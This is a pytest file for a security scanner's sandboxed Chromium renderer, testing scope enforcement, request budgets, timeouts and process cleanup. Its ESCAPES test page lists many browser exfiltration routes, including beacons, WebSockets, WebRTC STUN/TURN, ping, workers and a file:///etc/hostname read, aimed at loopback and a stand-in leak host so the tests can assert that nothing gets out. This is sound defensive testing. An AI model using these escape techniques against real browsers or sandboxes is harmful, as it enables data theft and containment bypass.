"""Chromium behind the gate: what exists only after scripts is seen, and nothing leaves but through the scan's network.

The site and whoever must receive nothing are servers on loopback; a page tries each way out that a browser knows.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from tests.net.conftest import LOOPBACK

from secrecon.detect.acting import refusal
from secrecon.model.errors import BudgetSpent, OperatorError, ProtocolBroken, TargetTimeout
from secrecon.model.scan import Budget
from secrecon.model.target import Origin, parse_target
from secrecon.net import browser as browsing
from secrecon.net.browser import open_browser
from secrecon.net.browserproxy import Wall
from secrecon.net.clock import SystemClock
from secrecon.net.gate import ScopeGate
from secrecon.net.network import Network
from secrecon.net.rendering import Rendered
from secrecon.net.resolver import Resolver

CHROMIUM = Path("/usr/bin/chromium")
SANDBOX = os.geteuid() != 0
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.xdist_group("rendering"),
]

SHOP = """<!doctype html><title>shop</title><p id=app></p><script>
fetch('/api/items?page=1').then(r => r.json()).then(items => {
  document.getElementById('app').innerHTML = items.map(i => `<a href="/item?id=${i}">${i}</a>`).join('') +
    '<form action="/find"><input name="q"></form>' + document.cookie;
  fetch('/api/seen');
});
fetch('/api/cart', {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"item": {"id": 7}}'});
fetch('/logout');
</script>"""

ESCAPES = """<!doctype html><title>out</title><link rel=preconnect href="http://127.0.0.1:@P@/">
<link rel=dns-prefetch href="//leak.acme.test"><link rel=prefetch href="http://127.0.0.1:@P@/prefetch">
<img src="http://127.0.0.1:@P@/i"><iframe src="http://127.0.0.1:@P@/f"></iframe><iframe src="file:///etc/hostname"></iframe>
<iframe src="/download"></iframe><iframe src="/away"></iframe><object data="http://localhost:@P@/o"></object><script>
const out = 'http://127.0.0.1:@P@/', tries = {
  fetch: () => fetch(out + 'a'), nocors: () => fetch(out + 'b', {mode: 'no-cors'}), v6: () => fetch('http://[::1]:@P@/'),
  name: () => fetch('http://leak.acme.test:@P@/'), decimal: () => fetch('http://2130706433:@P@/'),
  post: () => fetch(out, {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}),
  beacon: () => navigator.sendBeacon(out + 'c', 'x'), socket: () => new WebSocket('ws://127.0.0.1:@P@/s'),
  stream: () => new EventSource(out + 'e'), worker: () => new Worker(URL.createObjectURL(new Blob([
    `fetch('${out}w'); new WebSocket('ws://127.0.0.1:@P@/w'); try { new WebTransport('https://127.0.0.1:@P@/') } catch {}`]))),
  service: () => navigator.serviceWorker.register('/sw.js'), popup: () => window.open(out + 'p'),
  form: () => { const f = document.createElement('form'); f.action = out; f.method = 'post'; f.target = '_blank';
    document.body.append(f); f.submit() },
  transport: () => new WebTransport('https://127.0.0.1:@P@/'),
  rtc: () => { const f = document.createElement('iframe'); document.body.append(f);
    for (const w of [window, f.contentWindow]) if (w.RTCPeerConnection) {
      const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@P@'},
        {urls: 'turn:127.0.0.1:@P@?transport=tcp', username: 'a', credential: 'b'}]});
      p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } },
  ping: () => { const a = document.createElement('a'); a.href = '#x'; a.ping = out + 'ping';
    document.body.append(a); a.click() },
  save: () => { const a = document.createElement('a'); a.href = '/download'; a.download = 'x';
    document.body.append(a); a.click() },
  read: () => fetch('file:///etc/hostname').then(() => document.title = 'read a file'),
  ask: () => alert('stop'),
};
for (const name in tries) try { const p = tries[name](); if (p && p.catch) p.catch(() => 0) } catch {}
document.body.append(...['tried ', Object.keys(tries).length]);
</script>"""


@dataclass
class Site:
    """A site on loopback, and beside it a port (TCP, UDP, ::1 too) that must receive nothing."""

    port: int = 0
    closed: int = 0
    asked: list[str] = field(default_factory=list)
    leaked: list[str] = field(default_factory=list)
    open: set[asyncio.StreamWriter] = field(default_factory=set)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.open.add(writer)
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                method, target = head.split(" ")[:2]
                self.asked.append(f"{method} {target}")
                status, headers, body = self.reply(target)
                length = f"content-length: {len(body)}\r\n\r\n"
                writer.write(f"HTTP/1.1 {status} X\r\n{headers}{length}".encode() + body.encode())
                await writer.drain()
        self.open.discard(writer)
        writer.close()

    def reply(self, target: str) -> tuple[int, str, str]:
        page = "content-type: text/html\r\n"
        out = ESCAPES.replace("@P@", str(self.closed))
        return {
            "/": (200, page + "set-cookie: basket=9; path=/\r\n", SHOP),
            "/api/items?page=1": (200, "content-type: application/json\r\n", "[4, 5]"),
            "/api/seen": (200, "", ""),
            "/out": (200, page, out),
            "/away": (302, f"location: http://127.0.0.1:{self.closed}/away\r\n", ""),
            "/moved": (302, "location: /new/place\r\n", ""),
            "/new/place": (200, page, "<a href='beside'>beside</a>"),
            "/download": (200, "content-disposition: attachment; filename=x\r\n", "saved"),
            "/endless": (200, page, "<script>for (;;) ;</script>"),
        }.get(target, (404, page, "no"))

    async def leak(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.leaked.append("tcp")
        writer.close()


class _Heard(asyncio.DatagramProtocol):
    def __init__(self, site: Site) -> None:
        self._site = site

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._site.leaked.append(f"udp {data[:40]!r}")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site() -> AsyncIterator[Site]:
    made = Site()
    loop = asyncio.get_running_loop()
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    beside = await asyncio.start_server(made.leak, "127.0.0.1", 0)
    made.closed = beside.sockets[0].getsockname()[1]
    six = await asyncio.start_server(made.leak, "::1", made.closed) if socket.has_ipv6 else None
    heard, _ = await loop.create_datagram_endpoint(lambda: _Heard(made), local_addr=("127.0.0.1", made.closed))
    yield made
    heard.close()
    for one in (server, beside, six):
        if one is not None:
            one.close()
    for writer in tuple(made.open):
        writer.transport.abort()
    await asyncio.sleep(0.01)


@contextlib.asynccontextmanager
async def network_of(site: Site, budget: Budget | None = None) -> AsyncIterator[Network]:
    resolver = Resolver((("127.0.0.1", site.closed),), timeout=0.2)
    gate = ScopeGate(parse_target(f"http://127.0.0.1:{site.port}"), LOOPBACK, resolver)
    network = Network(gate, resolver, budget or Budget(), SystemClock())
    yield network
    await network.close()


async def rendered(site: Site, target: str, wall: Wall | None = None) -> tuple[Rendered, Network]:
    async with (
        network_of(site) as network,
        open_browser(CHROMIUM, network, refusal, sandbox=SANDBOX, wall=wall) as browser,
    ):
        return await browser.render(Origin("http", "127.0.0.1", site.port), target), network


async def test_what_only_scripts_make_is_seen(site: Site) -> None:
    page, network = await rendered(site, "/")
    assert '<a href="/item?id=5">' in page.html
    assert "basket=9" in page.html, "the page's own cookies work"
    assert {(w.method, w.target, w.sent) for w in page.wishes} == {
        ("GET", "/api/items?page=1", True),
        ("POST", "/api/cart", False),
        ("GET", "/logout", False),
        ("GET", "/api/seen", True),
    }
    assert next(w.body for w in page.wishes if w.method == "POST") == '{"item": {"id": 7}}'
    assert {"GET /logout", "POST /api/cart"}.isdisjoint(site.asked)
    assert network.requests >= 3, "each request counts against the scan's budget"


async def test_nothing_leaves_but_through_the_gate(site: Site) -> None:
    wall = Wall()
    page, network = await rendered(site, "/out", wall)
    await asyncio.sleep(0.2)
    assert "tried 19" in page.html, "every way out was tried"
    assert "<title>out</title>" in page.html, "no file was read"
    assert site.leaked == []
    assert page.refused, "what the scope refused is told"
    assert any(f":{site.closed}/a" in refusal.url for refusal in network.refusals)
    assert any(f"CONNECT 127.0.0.1:{site.closed} " in line for line in wall.refused), (
        "a WebSocket ends at the proxy"
    )
    assert not [asked for asked in site.asked if asked.split(" ")[0] != "GET"]


async def test_a_page_that_leads_on_is_read_where_it_ends(site: Site) -> None:
    page, _ = await rendered(site, "/moved")
    assert (page.target, "beside" in page.html) == ("/new/place", True)


async def test_a_page_without_end_and_a_download_are_failures(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    origin = Origin("http", "127.0.0.1", site.port)
    monkeypatch.setattr(browsing, "PAGE_SECONDS", 2.0)
    async with network_of(site) as network, open_browser(CHROMIUM, network, refusal, sandbox=SANDBOX) as browser:
        with pytest.raises(TargetTimeout):
            await browser.render(origin, "/endless")
        with pytest.raises(ProtocolBroken):
            await browser.render(origin, "/download")


async def test_the_budget_ends_it(site: Site) -> None:
    spent = Budget(requests=0)
    async with (
        network_of(site, spent) as network,
        open_browser(CHROMIUM, network, refusal, sandbox=SANDBOX) as browser,
    ):
        with pytest.raises(BudgetSpent):
            await browser.render(Origin("http", "127.0.0.1", site.port), "/")


def _running(port: int) -> list[str]:
    """The processes of the Chromium that was given the proxy at `port`."""
    found = []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if f"wall.invalid:{port}".encode() in entry.read_bytes():
                found.append(entry.parent.name)
    return found


async def until(true: Callable[[], bool]) -> None:
    async with asyncio.timeout(10):
        while not true():
            await asyncio.sleep(0.05)


async def test_cancelling_ends_chromium(site: Site) -> None:
    wall, running = Wall(), asyncio.Event()

    async def endless() -> None:
        async with (
            network_of(site) as network,
            open_browser(CHROMIUM, network, refusal, sandbox=SANDBOX, wall=wall) as browser,
        ):
            running.set()
            await browser.render(Origin("http", "127.0.0.1", site.port), "/endless")

    task = asyncio.create_task(endless())
    await running.wait()
    await until(lambda: "GET /endless" in site.asked)
    assert _running(wall.port)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await until(lambda: not _running(wall.port))


async def test_one_that_does_not_start_says_so(site: Site, tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    async with network_of(site) as network:
        with pytest.raises(OperatorError, match="did not start"):
            async with open_browser(fake, network, refusal, sandbox=False):
                pass
